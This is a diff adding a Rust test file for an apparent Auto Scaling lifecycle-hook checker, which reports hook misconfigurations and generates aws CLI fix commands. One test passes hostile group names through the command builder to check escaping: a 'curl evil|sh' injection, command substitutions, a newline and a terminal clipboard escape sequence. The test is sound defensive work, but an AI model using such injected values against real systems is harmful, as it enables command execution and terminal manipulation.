@@ -1,0 +1,197 @@
+use spillway_core::hook_timeouts::HookTimeouts;
+use spillway_core::test_support::{settings, tags};
+
+use super::super::groups::HookTransition;
+use super::*;
+use crate::report::CheckStatus;
+
+fn hook(name: &str) -> GroupHook {
+    let timeout = Duration::from_secs(300);
+    GroupHook {
+        name: name.to_owned(),
+        transition: HookTransition::Terminating,
+        waits: HookTimeouts { timeout, in_all: timeout * 100 },
+        default_result: LifecycleResult::Continue,
+        notifies: None,
+    }
+}
+
+fn group(hooks: &[GroupHook]) -> Group {
+    Group {
+        name: "workers".to_owned(),
+        cluster: ClusterName::new("prod"),
+        managed_by: ManagedBy::SelfManaged,
+        tags: tags(&[("team", "shop")]),
+        keeps_abandoned: false,
+        hooks: hooks.to_vec(),
+    }
+}
+
+fn check(group: Group, variables: &[(&str, &str)]) -> Check {
+    look(&[group], &ClusterName::new("prod"), &settings(variables), "us-east-1")
+}
+
+fn found(group: Group, variables: &[(&str, &str)]) -> Vec<(FindingId, Severity)> {
+    check(group, variables).findings.into_iter().map(|finding| (finding.id, finding.severity)).collect()
+}
+
+#[test]
+fn a_hook_as_the_documents_have_it_is_sane() {
+    assert_eq!(found(group(&[hook("spillway")]), &[]), []);
+}
+
+#[test]
+fn a_group_without_a_hook_of_ours_is_found() {
+    let launch = GroupHook { transition: HookTransition::Launching, ..hook("spillway") };
+    let missing = [(FindingId::HookMissing, Severity::Fail)];
+    assert_eq!(found(group(&[]), &[]), missing);
+    assert_eq!(found(group(&[launch]), &[]), missing);
+    assert_eq!(found(group(&[hook("other")]), &[("SPILLWAY_HOOKS", "spillway")]), missing);
+}
+
+/// Auto Scaling takes any printable character in a group's name.
+#[test]
+fn a_groups_name_is_one_word_of_the_command() {
+    let named = |name: &str| Group { name: name.to_owned(), ..group(&[]) };
+    let command = |name: &str| check(named(name), &[]).findings.remove(0).command;
+    let of = |name: &str| command(name).unwrap().split(" --lifecycle").next().unwrap().to_owned();
+    let put = "aws autoscaling put-lifecycle-hook --auto-scaling-group-name";
+    assert_eq!(of("workers-a_1.x/y"), format!("{put} workers-a_1.x/y"));
+    assert_eq!(of("x; curl evil|sh #"), format!("{put} 'x; curl evil|sh #'"));
+    assert_eq!(of("$(id)`id`"), format!("{put} '$(id)`id`'"));
+    assert_eq!(of("it's"), format!("{put} 'it'\"'\"'s'"));
+    assert_eq!(command("x\u{1b}]52;c;evil\u{7}"), None, "a terminal would not show it");
+    assert_eq!(command("x\nid"), None);
+}
+
+#[test]
+fn a_group_whose_nodes_are_not_drained_for_its_hooks_needs_none() {
+    assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=kitchen")]), []);
+    assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=shop")]).len(), 1);
+    assert_eq!(found(group(&[]), &[("SPILLWAY_DRAIN_ON", "spot")]), []);
+    assert_eq!(found(Group { managed_by: ManagedBy::ManagedNodeGroup, ..group(&[]) }, &[]), []);
+    assert_eq!(found(Group { cluster: ClusterName::new("other"), ..group(&[]) }, &[]), []);
+}
+
+#[test]
+fn a_group_whose_hooks_the_role_may_not_touch_is_found_with_the_command_that_tags_it() {
+    let asked = |tag| [("SPILLWAY_HOOK_GROUP_TAG", tag)];
+    assert_eq!(found(group(&[hook("spillway")]), &asked("team=shop")), []);
+    assert_eq!(
+        found(group(&[hook("spillway")]), &asked("team=kitchen")),
+        [(FindingId::HookGroupUntagged, Severity::Fail)]
+    );
+    assert_eq!(found(group(&[hook("spillway")]), &asked("drainer=shop")).len(), 1);
+    assert_eq!(
+        found(group(&[]), &asked("team=kitchen")),
+        [(FindingId::HookMissing, Severity::Fail)],
+        "it has none of ours"
+    );
+    let command = check(group(&[hook("spillway")]), &asked("a/b=c")).findings.remove(0).command.unwrap();
+    assert!(command.ends_with("PropagateAtLaunch=false,Key=a/b,Value=c,ResourceId=workers"), "{command}");
+}
+
+#[test]
+fn a_group_without_the_managed_tag_is_told_as_not_looked_at() {
+    let what = |tag| check(group(&[hook("spillway")]), &[("SPILLWAY_MANAGED_TAG", tag)]).what;
+    assert_eq!(what("team=shop"), "Auto Scaling waits for Spillway in workers");
+    assert_eq!(
+        what("team=kitchen"),
+        "no Auto Scaling group of this cluster has the managed tag; not looked at, without the tag team=kitchen, which \
+         their instances may have: workers"
+    );
+}
+
+#[test]
+fn a_hook_that_does_not_wait_for_lambdas_retry_is_found() {
+    let waiting = |seconds| {
+        let timeout = Duration::from_secs(seconds);
+        GroupHook { waits: HookTimeouts { timeout, in_all: timeout * 100 }, ..hook("spillway") }
+    };
+    assert_eq!(found(group(&[waiting(59)]), &[]), [(FindingId::HookTimeoutShort, Severity::Warn)]);
+    assert_eq!(found(group(&[waiting(60)]), &[]), []);
+}
+
+#[test]
+fn a_hook_that_waits_less_than_the_settings_count_on_is_found() {
+    let day = [("SPILLWAY_HOOK_MAX_WAIT_S", "86400")];
+    assert_eq!(found(group(&[hook("spillway")]), &day), [(FindingId::HookWaitsShorterThanSet, Severity::Warn)]);
+    assert_eq!(found(group(&[hook("spillway")]), &[("SPILLWAY_HOOK_MAX_WAIT_S", "30000")]), []);
+}
+
+#[test]
+fn a_hook_that_is_abandoned_is_as_bad_as_what_follows() {
+    let abandoned = GroupHook { default_result: LifecycleResult::Abandon, ..hook("spillway") };
+    let found = |group| found(group, &[("SPILLWAY_HOOKS", "spillway")]);
+    let alone = group(std::slice::from_ref(&abandoned));
+    assert_eq!(found(alone.clone()), [(FindingId::HookDefaultAbandon, Severity::Info)]);
+    assert_eq!(
+        found(group(&[hook("dns"), abandoned])),
+        [(FindingId::HookDefaultAbandon, Severity::Warn), (FindingId::HookLeftToOthers, Severity::Warn)]
+    );
+    assert_eq!(found(Group { keeps_abandoned: true, ..alone }), [(FindingId::HookDefaultAbandon, Severity::Warn)]);
+}
+
+#[test]
+fn a_hook_beside_ours_that_nobody_may_complete_is_found_and_eks_own_is_not() {
+    let told = GroupHook { notifies: Some("arn:aws:sqs:us-east-1:123456789012:dns".to_owned()), ..hook("dns") };
+    let beside = |other| found(group(&[hook("spillway"), other]), &[]);
+    assert_eq!(beside(hook("dns")), [(FindingId::HookLeftToOthers, Severity::Warn)]);
+    assert_eq!(beside(told), [(FindingId::HookLeftToOthers, Severity::Info)]);
+    assert_eq!(beside(hook("Terminate-LC-Hook")), []);
+}
+
+#[test]
+fn a_name_that_no_group_has_is_found() {
+    let unused = |groups: &[Group], hooks| {
+        let check = unused(groups, &settings(&[("SPILLWAY_HOOKS", hooks)]));
+        check.findings.into_iter().map(|finding| finding.object).collect::<Vec<_>>()
+    };
+    let groups = [group(&[hook("spillway")]), group(&[hook("drain")])];
+    assert_eq!(unused(&groups, "spillway,drain,darin"), ["hook darin"]);
+    assert_eq!(unused(&groups, "drain"), [""; 0]);
+    assert_eq!(unused(&[], "spillway"), [""; 0], "each group is told of");
+}
+
+#[test]
+fn a_command_changes_of_a_hook_what_the_finding_is_about() {
+    let waiting = |seconds, default_result| {
+        let timeout = Duration::from_secs(seconds);
+        group(&[GroupHook {
+            waits: HookTimeouts { timeout, in_all: timeout * 100 },
+            default_result,
+            ..hook("spillway")
+        }])
+    };
+    let commands = |group, hook_max_wait| {
+        let check = check(group, &[("SPILLWAY_HOOK_MAX_WAIT_S", hook_max_wait)]);
+        let command = |finding: Finding| {
+            let command = finding.command.unwrap();
+            let (_, set) = command.split_once("--heartbeat-timeout ").unwrap();
+            format!("{}: {}", finding.id.as_str(), set.strip_suffix(" --region us-east-1").unwrap())
+        };
+        check.findings.into_iter().map(command).collect::<Vec<_>>()
+    };
+    assert_eq!(commands(group(&[]), "3600"), ["hook-missing: 300 --default-result CONTINUE"]);
+    assert_eq!(commands(group(&[]), "86400"), ["hook-missing: 864 --default-result CONTINUE"]);
+    let (go_on, abandon) = (LifecycleResult::Continue, LifecycleResult::Abandon);
+    assert_eq!(commands(waiting(30, go_on), "3600"), ["hook-timeout-short: 300 --default-result CONTINUE"]);
+    assert_eq!(commands(waiting(7200, abandon), "86400"), ["hook-default-abandon: 7200 --default-result CONTINUE"]);
+    assert_eq!(
+        commands(waiting(30, abandon), "86400"),
+        ["hook-timeout-short: 864 --default-result ABANDON", "hook-default-abandon: 30 --default-result CONTINUE"]
+    );
+    assert_eq!(
+        commands(waiting(300, abandon), "86400"),
+        [
+            "hook-waits-shorter-than-set: 864 --default-result ABANDON",
+            "hook-default-abandon: 300 --default-result CONTINUE"
+        ]
+    );
+}
+
+#[test]
+fn a_cluster_without_groups_is_well() {
+    let check = look(&[], &ClusterName::new("prod"), &settings(&[]), "");
+    assert_eq!((check.status, check.cluster.as_deref()), (CheckStatus::Ok, Some("prod")));
+}
